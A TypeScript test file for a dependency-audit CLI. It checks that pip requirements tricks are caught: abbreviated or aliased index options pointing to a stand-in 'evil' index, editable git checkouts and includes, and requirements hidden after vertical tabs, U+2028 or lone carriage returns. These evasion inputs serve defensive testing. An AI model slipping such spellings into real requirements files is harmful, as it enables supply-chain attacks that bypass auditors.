/**
 * Hostile world: a requirements file that sends pip elsewhere in a spelling pip reads but nerq
 * did not. pip splits an option line as `shlex.split` does and parses it with optparse: every
 * option on the line counts (`--trusted-host h --extra-index-url URL` is a common line), a long
 * option may be any unique prefix of its name (`--extra=URL`, `--ind URL`, `--fi URL`),
 * `--pypi-url` is `--index-url`, a word may be quoted. A line with `-e` anywhere on it is that
 * editable requirement, and one with `-r` that include. Spelled so, the index a pull request
 * adds, the git checkout it installs or the file it includes must be seen: flask from another
 * index is held to PyPI's hashes (docs/security.md, "Lockfile injection"), the checkout is an
 * unvouched-remote finding, the include's packages are audited — never a pass on the PyPI
 * package of the same name with the rest unseen. Lines are split where pip splits them (Python's
 * `str.splitlines()`: `\v`, `\f`, `\x1c`–`\x1e`, `\x85`, U+2028, U+2029, a lone `\r`): a
 * requirement after one, behind a comment, is audited.
 */
import { describe, it } from 'vitest';
import { parseAudit, writeIn } from '../cli/audit-helpers.js';
import { useAuditWorld } from './support/audit-world.js';
import { runHostile } from './support/cli.js';
import { CLI_TEST_TIMEOUT_MS, expectCleanStderr } from './support/expect.js';
import { noteCases } from './support/metrics.js';

const world = useAuditWorld((server) => {
  // PyPI: the recorded flask answers; nothing else about it is known.
  server.fallback('GET', '/pypi/');
  server.fallback('GET', '/pypistats/', { status: 404 });
});
const dirs = world.dirs;

/** Edited: a digest PyPI does not publish for flask 3.1.3 (the wheel's, last hex digit changed). */
const FLASK_OTHER = 'f4bcbefc124291925f1a26446da31a5178f9483862233b23c0c96a20701f670d';
/** Edited: the index a pull request adds (with a token in its URL). */
const EVIL_INDEX = 'https://__token__:pypi-s3cret@pypi.evil.example/simple';
/** The policy bar is not what these cases are about. */
const ANY_SCORE = JSON.stringify({ minScore: 0, minCoverage: 0 });
const FLASK = `flask==3.1.3 --hash=sha256:${FLASK_OTHER}`;

async function audit(files: Record<string, string>) {
  const dir = dirs.make();
  for (const [name, content] of Object.entries({ ...files, '.nerqrc.json': ANY_SCORE })) writeIn(dir, name, content);
  return runHostile(['audit', dir, '--json', '--timeout', '30'], { server: world.server });
}

/** [label, the option line]: each sends pip to EVIL_INDEX for flask. */
const INDEX_SPELLINGS: [string, string][] = [
  ['--pypi-url (pip\'s other name for --index-url)', `--pypi-url ${EVIL_INDEX}`],
  ['--extra=URL (abbreviated --extra-index-url)', `--extra=${EVIL_INDEX}`],
  ['--ind URL (abbreviated --index-url)', `--ind ${EVIL_INDEX}`],
  ['--fi URL (abbreviated --find-links)', `--fi ${EVIL_INDEX}`],
  ['--trusted-host H --extra-index-url URL (two options on a line)', `--trusted-host pypi.evil.example --extra-index-url ${EVIL_INDEX}`],
  ['--pre -i URL (the index second on the line)', `--pre -i ${EVIL_INDEX}`],
  ['--index-url \'https://pypi.org/simple\' --extra-index-url "URL" (quoted words)', `--index-url 'https://pypi.org/simple' --extra-index-url "${EVIL_INDEX}"`],
];

describe('an index option spelled as pip reads it', () => {
  it.concurrent.for(INDEX_SPELLINGS)("%s: flask with hashes none of which is PyPI's fails with lockfile-injection", { timeout: CLI_TEST_TIMEOUT_MS }, async ([label, line], { task, expect }) => {
    noteCases(task);
    const run = await audit({ 'requirements.txt': `${line}\n${FLASK}\n` });
    const flask = parseAudit(run.stdout).entries.find((e) => e.subject.name === 'flask');
    const context = `${label}: exit ${run.code}\n${run.stderr.slice(0, 500)}`;
    expectCleanStderr(run.stderr, context);
    expect(run.code, context).toBe(1);
    expect(flask?.policy.failures[0], context).toMatchObject({ rule: 'lockfile-injection', at: { file: 'requirements.txt', line: 2 } });
    expect(run.stdout + run.stderr, context).not.toContain('pypi-s3cret');
  });
});

/** [label, requirements.txt, other files]: each installs a git checkout nerq cannot score. */
const CHECKOUT_SPELLINGS: [string, string, Record<string, string>][] = [
  ['--pre -e URL (the editable second on the line)', '--pre -e git+https://git.example/evil/helper.git#egg=helper\n', {}],
  ['--edit URL (abbreviated --editable)', '--edit git+https://git.example/evil/helper.git#egg=helper\n', {}],
  ['--pre -r FILE (the include second on the line)', '--pre -r more.txt\n', { 'more.txt': '-e git+https://git.example/evil/helper.git#egg=helper\n' }],
  ['--requirem=FILE (abbreviated --requirement)', '--requirem=more.txt\n', { 'more.txt': '-e git+https://git.example/evil/helper.git#egg=helper\n' }],
];

describe('an editable requirement or include spelled as pip reads it', () => {
  it.concurrent.for(CHECKOUT_SPELLINGS)('%s: the checkout is an unvouched-remote finding, exit 3', { timeout: CLI_TEST_TIMEOUT_MS }, async ([label, text, others], { task, expect }) => {
    noteCases(task);
    const run = await audit({ 'requirements.txt': text, ...others });
    const context = `${label}: exit ${run.code}\n${run.stderr.slice(0, 500)}`;
    expectCleanStderr(run.stderr, context);
    expect(run.code, context).toBe(3);
    const report = JSON.parse(run.stdout) as { warnings: { code: string; details: Record<string, unknown> }[] };
    const remote = report.warnings.filter((w) => w.code === 'unvouched-remote');
    expect(remote.map((w) => [w.details.package, w.details.host]), context).toEqual([['helper', 'git.example']]);
  });
});

/**
 * [label, line break]: pip splits a requirements file with Python's `str.splitlines()`, so a
 * requirement after any of these is a line pip installs, even behind a comment.
 */
const HIDDEN_LINE_BREAKS: [string, string][] = [
  ['\\v (vertical tab) after a comment', '\v'],
  ['\\f (form feed) after a comment', '\f'],
  ['\\x1c after a comment', '\x1c'],
  ['\\x85 (next line) after a comment', '\x85'],
  ['U+2028 (line separator) after a comment', '\u2028'],
  ['U+2029 (paragraph separator) after a comment', '\u2029'],
  ['a lone \\r after a comment', '\r'],
];

describe('a requirement behind a line break pip splits at', () => {
  it.concurrent.for(HIDDEN_LINE_BREAKS)("%s: flask is audited at pip's line, its hashes none of which is PyPI's fail with lockfile-injection", { timeout: CLI_TEST_TIMEOUT_MS }, async ([label, lineBreak], { task, expect }) => {
    noteCases(task);
    const run = await audit({ 'requirements.txt': `--extra-index-url ${EVIL_INDEX}\n# pinned${lineBreak}${FLASK}\n` });
    const flask = parseAudit(run.stdout).entries.find((e) => e.subject.name === 'flask');
    const context = `${label}: exit ${run.code}\n${run.stderr.slice(0, 500)}`;
    expectCleanStderr(run.stderr, context);
    expect(run.code, context).toBe(1);
    expect(flask?.policy.failures[0], context).toMatchObject({ rule: 'lockfile-injection', at: { file: 'requirements.txt', line: 3 } });
  });
});
